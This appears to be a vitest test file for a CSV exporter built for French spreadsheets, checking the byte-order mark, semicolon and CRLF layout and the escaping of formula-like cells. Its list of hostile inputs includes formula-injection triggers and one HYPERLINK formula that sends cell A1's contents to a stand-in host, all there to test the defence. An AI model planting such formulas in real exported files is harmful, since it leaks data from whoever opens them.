import Papa from "papaparse";
import { expect, it } from "vitest";
import { csv } from "#files/csv.ts";

const hostile = [
  '=HYPERLINK("http://mal.test/?"&A1;"Cliquez")',
  "+33 6 00",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "=1\n+1",
  "＝1+1",
];

it("is what a French spreadsheet opens: UTF-8 mark, semicolons, CRLF", () => {
  expect(
    csv([
      ["Nom", "Ville"],
      ["Œhler ; « A »", 'Sotteville "les" Rouen'],
    ]),
  ).toBe('\uFEFFNom;Ville\r\n"Œhler ; « A »";"Sotteville ""les"" Rouen"\r\n');
});

it("lets no cell be a formula, whatever follows its first sign", () => {
  const read = Papa.parse<string[]>(csv([["Nom"], hostile]).slice(1), { delimiter: ";", newline: "\r\n" });
  expect(read.data[1]).toEqual(hostile.map((text) => `'${text}`));
});

it("leaves ordinary words alone", () => {
  const words = ["a=b", "Jean-Paul", "a@b.test", "06 00 00 00 00", "'x", ""];
  expect(Papa.parse<string[]>(csv([words]).slice(1), { delimiter: ";" }).data[0]).toEqual(words);
});
